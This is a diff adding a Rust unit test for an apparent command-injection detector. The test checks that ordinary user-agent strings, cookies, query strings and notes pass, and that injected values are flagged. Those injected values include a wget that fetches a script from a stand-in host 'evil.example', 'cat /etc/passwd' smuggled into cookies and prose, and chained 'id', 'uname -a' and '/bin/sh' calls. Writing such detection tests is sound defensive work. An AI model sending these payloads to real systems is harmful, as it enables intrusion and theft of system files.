@@ -414,3 +414,41 @@ fn odd_contexts() {
         }
     }
 }
+
+/// The shapes the command detector's cheap rejection passes (plain text
+/// with `;`, `&`, `(`, `)`, `*` and one `'`: product lists, cookies, form
+/// strings, prose) report nothing, while a program in command position in
+/// the same shapes is still read as a command.
+#[test]
+fn cheap_rejection_shapes() {
+    let cmdi = |path: &str, v: &str| -> Vec<String> {
+        blocking(&inspect(path, v.as_bytes()))
+            .into_iter()
+            .filter(|r| r.starts_with("cmdi."))
+            .collect()
+    };
+    for (path, v) in [
+        ("header[\"user-agent\"]", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"),
+        ("header.accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
+        ("header.cookie", "session=3f2a9c1e8b7d4a6f; theme=dark; consent=yes"),
+        ("query", "q=red running shoes&category=footwear&sort=price_asc&page=2&size=42"),
+        ("body:json.note", "Please leave the parcel with the neighbour if I'm not at home."),
+    ] {
+        assert!(cmdi(path, v).is_empty(), "{v}: {:?}", cmdi(path, v));
+    }
+    for (path, v) in [
+        (
+            "header[\"user-agent\"]",
+            "Mozilla/5.0 (X11; wget http://evil.example/x.sh -O /tmp/x)",
+        ),
+        ("header.cookie", "session=abc; cat /etc/passwd"),
+        ("header.cookie", "theme=dark; a=1 cat /etc/passwd"),
+        ("query.q", "x&&id&&uname -a"),
+        ("query.q", "(whoami)"),
+        ("body:json.note", "it's fine; cat /etc/passwd"),
+        ("query.q", "a=/bin/sh"),
+        ("query.q", "x;/usr/bin/id"),
+    ] {
+        assert!(!cmdi(path, v).is_empty(), "{v} not detected");
+    }
+}
